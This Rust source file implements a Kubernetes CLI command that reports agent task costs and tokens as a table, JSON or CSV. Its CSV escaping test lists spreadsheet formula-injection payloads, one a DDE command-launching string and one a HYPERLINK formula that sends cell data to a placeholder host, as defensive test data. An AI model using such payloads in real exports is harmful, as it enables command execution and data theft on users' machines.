//! `cost`: what runs have consumed.

use std::time::Duration;

use clap::{Parser, ValueEnum};
use jiff::Timestamp;
use kube::api::ListParams;
use serde_json::{Map, Value, json};

use crate::analysis::cost::{By, Record, Report, Sum, report, runs};
use crate::cluster::Cluster;
use crate::cluster::task_summary;
use crate::error::{CliError, Result};
use crate::format;
use crate::globals::Globals;
use crate::kinds::Kind;
use crate::term::output::{Notation, Ui};
use crate::term::shown::Shown;
use crate::term::table::Table;
use axon_api::money::Money;

const DETAILS: &str = "\
A run is a task whose agent has started. Runs whose task is deleted are counted too: a record of
each is kept (kubectl axon get taskrecords), by default for 90 days. A figure that no agent
reported is unknown, not zero: column UNKNOWN says how many runs have no cost; averages and P90,
which nine of ten runs do not exceed, are of the others. With a price table the operator estimates
what agents did not report: column ESTIMATED, marked with ~ and never part of COST. Groups: task,
spawner, agent, model, workspace, namespace, day (of the end, UTC), label=KEY.

Examples:
  kubectl axon cost
  kubectl axon cost --by agent --since 7d
  kubectl axon cost -A --by label=team --since 30d -o csv";

/// Shows what tasks have cost: money and tokens
#[derive(Parser, Debug)]
#[command(after_help = DETAILS)]
pub struct Args {
    /// What to group runs by
    #[arg(long, value_name = "GROUP", default_value = "task", value_parser = str::parse::<By>)]
    pub by: By,
    /// Only runs that ended since then, such as 12h or 7d, or that have not ended
    #[arg(long, value_name = "DURATION", value_parser = days)]
    pub since: Option<Duration>,
    /// Look into all namespaces
    #[arg(short = 'A', long)]
    pub all_namespaces: bool,
    /// What to print: json, csv, table, or a table with more columns (wide)
    #[arg(
        short,
        long,
        value_name = "FORMAT",
        default_value = "table",
        hide_possible_values = true
    )]
    pub output: CostFormat,
}

/// What `-o` may ask for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum CostFormat {
    /// For people
    Table,
    /// With more columns
    Wide,
    /// All figures, exactly
    Json,
    /// All figures, exactly, for spreadsheets
    Csv,
}

/// Reads a duration that may be in days or weeks.
fn days(text: &str) -> Result<Duration, String> {
    let of = |number: &str, hours: u64| {
        let number: u64 = number.parse().ok()?;
        Some(Duration::from_secs(number.checked_mul(hours * 3600)?))
    };
    let long = match (text.strip_suffix('d'), text.strip_suffix('w')) {
        (Some(days), _) => of(days, 24),
        (_, Some(weeks)) => of(weeks, 7 * 24),
        _ => None,
    };
    match long {
        Some(duration) => Ok(duration),
        None => axon_api::go_duration::parse(text).map_err(|e| format!("{e}; days are written 7d")),
    }
}

/// Runs the command.
///
/// # Errors
/// Wrong usage, or whatever the cluster refuses.
pub async fn execute(ui: &Ui, globals: &Globals, args: Args) -> Result<()> {
    let cluster = globals.cluster(ui).await?;
    let namespace = (!args.all_namespaces).then_some(cluster.namespace.as_str());
    let listed = task_summary::list(&cluster, namespace);
    let (tasks, records) = futures::join!(listed, records(&cluster, namespace));
    let (tasks, _) = tasks?;
    let records = records.unwrap_or_else(|error| {
        ui.warn(&format!("only tasks that still exist are counted: {error}"));
        Vec::new()
    });
    let since = args.since.and_then(|since| {
        Timestamp::now()
            .checked_sub(jiff::SignedDuration::try_from(since).ok()?)
            .ok()
    });
    let runs = runs(records, tasks);
    let report = report(&runs, &args.by, args.all_namespaces, since);
    match args.output {
        CostFormat::Json => ui.structured(&as_json(&report, &args.by), Notation::Json),
        CostFormat::Csv => ui.block(&Shown::block(&as_csv(&report, &args.by))),
        CostFormat::Table | CostFormat::Wide => {
            if report.total.runs == 0 {
                let place = namespace
                    .map(|n| format!(" in {n} namespace"))
                    .unwrap_or_default();
                ui.say(&format!("No runs found{place}."));
                return Ok(());
            }
            let width = ui.width().filter(|_| args.output == CostFormat::Table);
            let text = as_table(&report, &args.by, args.output == CostFormat::Wide, width);
            ui.block(&Shown::block(&text))?;
            remarks(&report.total).iter().for_each(|remark| ui.say(remark));
            Ok(())
        }
    }
}

async fn records(cluster: &Cluster, namespace: Option<&str>) -> Result<Vec<Record>, CliError> {
    let mut all: Vec<Record> = Vec::new();
    let each = |page: Vec<Record>| all.extend(page);
    cluster
        .list(Kind::TaskRecord, namespace, &ListParams::default(), each)
        .await?;
    Ok(all)
}

/// Returns what has to be known to read the figures.
fn remarks(total: &Sum) -> Vec<String> {
    let mut remarks = Vec::new();
    if let Some(estimate) = total.estimate() {
        remarks.push(format!(
            "~{} of {} is estimated by the operator's price table; COST and AVERAGE are without it.",
            estimate.short(),
            format::count(total.estimated_runs, "run")
        ));
    }
    if total.unknown > 0 {
        remarks.push(format!(
            "The cost of {} of {} is unknown: the agent reported none (yet). COST is the sum of the others.",
            total.unknown,
            format::count(total.runs, "run")
        ));
    }
    if total.input.runs < total.runs {
        remarks.push(format!(
            "The tokens of {} of {} are unknown.",
            total.runs - total.input.runs,
            format::count(total.runs, "run")
        ));
    }
    if total.unfinished() > 0 {
        let (runs, has) = (
            format::count(total.unfinished(), "run"),
            if total.unfinished() == 1 { "has" } else { "have" },
        );
        remarks.push(format!("{runs} {has} not ended; the figures are those so far."));
    }
    remarks
}

fn as_table(report: &Report, by: &By, wide: bool, width: Option<usize>) -> String {
    let mut header = vec![by.title()];
    let estimated = report.total.estimate().is_some();
    let columns = [
        "RUNS",
        "OK",
        "COST",
        "ESTIMATED",
        "AVERAGE",
        "P90",
        "IN",
        "OUT",
        "CACHED",
        "UNKNOWN",
    ];
    let shown = columns
        .into_iter()
        .filter(|name| estimated || *name != "ESTIMATED");
    header.extend(shown.map(str::to_owned));
    if wide {
        header.extend(["CACHE WRITES", "FAILED", "UNFINISHED"].map(str::to_owned));
    }
    let mut elastic = vec![true];
    elastic.resize(header.len(), false);
    let mut table = Table::new(header);
    let total = ("TOTAL".to_owned(), report.total.clone());
    for (key, sum) in report.groups.iter().chain(std::iter::once(&total)) {
        let money = |amount: Option<Money>| amount.map(Money::short).unwrap_or_default();
        let tokens = |tokens: crate::analysis::cost::Tokens| match tokens.runs {
            0 => String::new(),
            _ => format::quantity(tokens.count),
        };
        let mut cells = vec![
            format::one_line(key),
            sum.runs.to_string(),
            sum.success_percent().map(|p| format!("{p}%")).unwrap_or_default(),
            money(sum.cost()),
        ];
        if estimated {
            cells.push(
                sum.estimate()
                    .map(|sum| format!("~{}", sum.short()))
                    .unwrap_or_default(),
            );
        }
        cells.extend([
            money(sum.average()),
            money(sum.p90()),
            tokens(sum.input),
            tokens(sum.output),
            tokens(sum.cache_read),
            if sum.unknown == 0 {
                String::new()
            } else {
                sum.unknown.to_string()
            },
        ]);
        if wide {
            cells.extend([
                tokens(sum.cache_write),
                sum.failed.to_string(),
                sum.unfinished().to_string(),
            ]);
        }
        table.row("", cells);
    }
    let mut widths = Vec::new();
    if let Some(width) = width {
        table.fit(width, &elastic, &mut widths);
    }
    table.lines(true, &mut widths).join("\n") + "\n"
}

/// Name and value of each figure of a sum.
fn figures(sum: &Sum) -> Vec<(&'static str, Value)> {
    let money = |amount: Option<Money>| amount.map_or(Value::Null, |n| n.to_string().into());
    let tokens = |tokens: crate::analysis::cost::Tokens| match tokens.runs {
        0 => Value::Null,
        _ => tokens.count.into(),
    };
    vec![
        ("runs", sum.runs.into()),
        ("succeeded", sum.succeeded.into()),
        ("failed", sum.failed.into()),
        ("unfinished", sum.unfinished().into()),
        ("costUSD", money(sum.cost())),
        ("averageUSD", money(sum.average())),
        ("p90USD", money(sum.p90())),
        ("runsWithUnknownCost", sum.unknown.into()),
        ("inputTokens", tokens(sum.input)),
        ("outputTokens", tokens(sum.output)),
        ("cacheReadTokens", tokens(sum.cache_read)),
        ("cacheWriteTokens", tokens(sum.cache_write)),
        ("runsWithUnknownTokens", (sum.runs - sum.input.runs).into()),
        ("estimatedCostUSD", money(sum.estimate())),
        ("runsWithEstimatedCost", sum.estimated_runs.into()),
    ]
}

fn as_json(report: &Report, by: &By) -> Value {
    let object = |sum: &Sum| -> Map<String, Value> {
        let all = figures(sum).into_iter();
        all.map(|(name, value)| (name.to_owned(), value)).collect()
    };
    let groups: Vec<Value> = report
        .groups
        .iter()
        .map(|(key, sum)| {
            let mut group = Map::from_iter([("key".to_owned(), key.clone().into())]);
            group.extend(object(sum));
            Value::Object(group)
        })
        .collect();
    json!({"by": by.title().to_ascii_lowercase(), "groups": groups, "total": object(&report.total)})
}

/// What is unknown is empty. There is no line for the total, which spreadsheets would add up again.
fn as_csv(report: &Report, by: &By) -> String {
    let names = figures(&Sum::default())
        .into_iter()
        .map(|(name, _)| name.to_owned());
    let mut lines = vec![
        std::iter::once(cell(&by.title().to_ascii_lowercase()))
            .chain(names)
            .collect::<Vec<_>>()
            .join(","),
    ];
    for (key, sum) in &report.groups {
        let values = figures(sum).into_iter().map(|(_, value)| match value {
            Value::Null => String::new(),
            Value::String(text) => text,
            other => other.to_string(),
        });
        lines.push(
            std::iter::once(cell(key))
                .chain(values)
                .collect::<Vec<_>>()
                .join(","),
        );
    }
    lines.join("\n") + "\n"
}

/// Returns a text as a cell. A spreadsheet would run a text that begins as a formula does; behind an apostrophe it is text.
fn cell(text: &str) -> String {
    let starts = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let text = format::one_line(text);
    let text = if starts || text.starts_with(['=', '+', '-', '@']) {
        format!("'{text}")
    } else {
        text
    };
    if text.contains(['"', ',']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        for (text, expected) in [
            ("opus", "opus"),
            ("a,b", "\"a,b\""),
            ("say \"x\"", "\"say \"\"x\"\"\""),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            (
                "=HYPERLINK(\"https://e/?\"&A2,\"t\")",
                "\"'=HYPERLINK(\"\"https://e/?\"\"&A2,\"\"t\"\")\"",
            ),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("\t=1", "'=1"),
            ("\r=1", "'=1"),
            (" =1", "'=1"),
            ("\n=1", "'=1"),
            ("a\nb", "a\\nb"),
            ("\u{202e}x\u{1b}", "\u{fffd}x\u{fffd}"),
        ] {
            assert_eq!(cell(text), expected, "{text:?}");
        }
    }

    #[test]
    fn since_knows_days() {
        for (text, hours) in [("7d", 168), ("2w", 336), ("12h", 12), ("1h30m", 1)] {
            assert_eq!(days(text).unwrap().as_secs() / 3600, hours, "{text}");
        }
        for bad in ["", "d", "7", "1.5d", "-1d", "99999999999999999999d"] {
            assert!(days(bad).is_err(), "{bad}");
        }
    }
}
